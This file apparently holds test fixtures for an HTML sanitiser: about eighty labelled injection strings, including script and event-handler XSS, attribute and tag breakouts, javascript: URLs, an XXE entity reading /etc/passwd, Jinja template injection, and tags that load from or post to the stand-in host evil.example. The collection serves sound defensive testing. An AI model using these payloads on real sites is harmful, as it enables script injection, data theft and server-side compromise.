@@ -1,0 +1,98 @@
+"""Eighty texts that try to become more than text on a page, by what they try. None of them is anybody's data."""
+
+from __future__ import annotations
+
+# A page on which one of these works has changed its title, which the tests look for.
+_RUN = "document.title='owned'"
+
+TEXTS: dict[str, str] = {
+    # Scripts and events
+    "script": f"<script>{_RUN}</script>",
+    "script in capitals": f"<SCRIPT SRC=//evil.example/x.js></SCRIPT><ScRiPt>{_RUN}</sCrIpT>",
+    "script split": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
+    "module": f'<script type="module">{_RUN}</script>',
+    "import map": '<script type="importmap">{"imports":{"a":"https://evil.example/a.js"}}</script>',
+    "image": f"<img src=x onerror={_RUN}>",
+    "image with slashes": f"<img/src=x/onerror={_RUN}//",
+    "image unclosed": f'<img src=x onerror="{_RUN}"',
+    "body": f"<body onload={_RUN}>",
+    "details": f'<details open ontoggle="{_RUN}">x</details>',
+    "video": f"<video><source onerror={_RUN}></video>",
+    "audio": f"<audio src=x onerror={_RUN}>",
+    "focus": f"<input autofocus onfocus={_RUN}>",
+    "select": f"<select autofocus onfocus={_RUN}></select>",
+    "marquee": f"<marquee onstart={_RUN}>x</marquee>",
+    "animation": f'<style>@keyframes x{{}}</style><b style="animation-name:x" onanimationstart="{_RUN}">',
+    "pointer": f'<div style="position:fixed;inset:0" onpointerover="{_RUN}">x</div>',
+    "custom element": f"<x-card tabindex=1 onfocus={_RUN}></x-card>",
+    # Out of an attribute
+    "double quote": f'" onmouseover="{_RUN}" x="',
+    "single quote": f"' onmouseover='{_RUN}' x='",
+    "backquote": f"` onmouseover=`{_RUN}` x=`",
+    "quote and tag": f'"><script>{_RUN}</script>',
+    "quote and focus": f'" autofocus onfocus="{_RUN}',
+    "no quote": f"x onmouseover={_RUN} y",
+    "newline in attribute": f'"\nonmouseover\n=\n"{_RUN}',
+    "slash in attribute": f'"/onmouseover="{_RUN}"/',
+    # Out of an element
+    "closing textarea": f"</textarea><script>{_RUN}</script>",
+    "closing title": f"</title><script>{_RUN}</script>",
+    "closing style": f"</style><img src=x onerror={_RUN}>",
+    "closing script": f"</script><script>{_RUN}</script>",
+    "closing main": "</main></body></html><h1>The end</h1>",
+    "closing form": '</form><form action="https://evil.example/take" method="post"><input name="csrf">',
+    "closing option": f"</option></select><img src=x onerror={_RUN}>",
+    "comment": f"<!-- --!><img src=x onerror={_RUN}> -->",
+    "comment opened": "<!--",
+    "cdata": f"<![CDATA[><script>{_RUN}</script>]]>",
+    "processing instruction": '<?xml version="1.0"?><?php phpinfo(); ?>',
+    "doctype": '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
+    "noscript": f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
+    "template element": f"<template><script>{_RUN}</script></template>",
+    "plaintext": "<plaintext>everything after this is text",
+    "xmp": f'<xmp><p title="</xmp><img src=x onerror={_RUN}>">',
+    # SVG, MathML, frames, objects
+    "svg": f"<svg onload={_RUN}>",
+    "svg script": f'<svg xmlns="http://www.w3.org/2000/svg"><script>{_RUN}</script></svg>',
+    "svg animate": '<svg><a><animate attributeName=href values="javascript:alert(1)" /><text>x</text></a></svg>',
+    "svg use": '<svg><use href="https://evil.example/x.svg#a"/></svg>',
+    "foreign object": f"<svg><foreignObject><body onload={_RUN}></foreignObject></svg>",
+    "mathml": '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>',
+    "mathml style": f"<math><style><img src=x onerror={_RUN}></style></math>",
+    "frame": '<iframe src="https://evil.example/"></iframe>',
+    "srcdoc": f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
+    "object": '<object data="https://evil.example/x.swf"></object><embed src="//evil.example">',
+    # Requests elsewhere
+    "base": '<base href="https://evil.example/">',
+    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    "link": '<link rel="stylesheet" href="https://evil.example/x.css">',
+    "prefetch": '<link rel="dns-prefetch" href="//secret.evil.example">',
+    "image set": '<img srcset="https://evil.example/1.png 1x" alt="">',
+    "ping": '<a href="/" ping="https://evil.example/">x</a>',
+    "dangling": '<img src="https://evil.example/?',
+    # CSS
+    "style": "<style>body{display:none}</style>",
+    "style import": "<style>@import url(https://evil.example/x.css);</style>",
+    "style attribute": '<p style="background:url(https://evil.example/)">x</p>',
+    "style leaving": '}</style><style>*{background:url("//evil.example")}',
+    # URLs
+    "url": "javascript:document.title='owned'",
+    "url with a tab": "java\tscript:document.title='owned'//",
+    "url as entity": "&#106;avascript:document.title='owned'",
+    "data url": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "markdown": "[a](javascript:alert(1)) ![b](https://evil.example/x.png) <https://evil.example>",
+    "path": "../../../../etc/passwd%00?x=1#/../..//evil.example\\..\\",
+    # Templates and data
+    "jinja": "{{ 7 * 7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %} {# c #}",
+    "other templates": "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('alert(1)')()}} $(id) `id`",
+    "format": "%s %n %(home)s {0} {home.__class__} \\u003cscript\\u003e",
+    "json": '"}],"x":[{"a":"\\"</script><script>"+1,\n"b":null}',
+    "entities": "&lt;script&gt; &amp;amp; &#60;b&#62; &#x3c;i&#x3e; &nbsp &copy; &NewLine;&Tab;",
+    "event stream": 'x\n\nevent: change\ndata: {"revision": 999999}\n\nid: 1\nretry: 1\n\n',
+    # Characters
+    "nul": "a\x00b<scr\x00ipt>c\x00",
+    "controls": "bell \x07 escape \x1b[31mred\x1b[0m back \x08\x08 form \x0c vertical \x0b delete \x7f c1 \x9b31m",
+    "bidi": "access \u202egnp.exe\u202c \u2066isolate \u2069 \u202dforced\u200f\u200e and on",
+    "right to left": "\u0645\u0631\u062d\u0628\u0627 <b>\u05e9\u05dc\u05d5\u05dd</b> \u0661\u0662\u0663",
+    "huge word": "W" * 1200 + "\u0301" * 200 + "\u200b\ufeff\u2028\u2029\ufffe\U000e0041",
+}  # fmt: skip
